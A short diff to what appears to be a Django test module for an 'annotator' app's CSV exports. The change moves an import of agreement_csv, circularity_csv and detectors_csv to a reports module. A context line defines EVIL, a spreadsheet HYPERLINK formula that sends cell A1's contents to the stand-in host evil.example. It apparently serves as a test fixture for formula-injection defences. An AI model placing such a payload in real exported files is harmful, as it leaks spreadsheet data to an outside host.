@@ -8,7 +8,7 @@ import json
 
 from django.core.management import call_command
 
-from annotator.services.agreement import agreement_csv, circularity_csv, detectors_csv
+from annotator.services.reports import agreement_csv, circularity_csv, detectors_csv
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
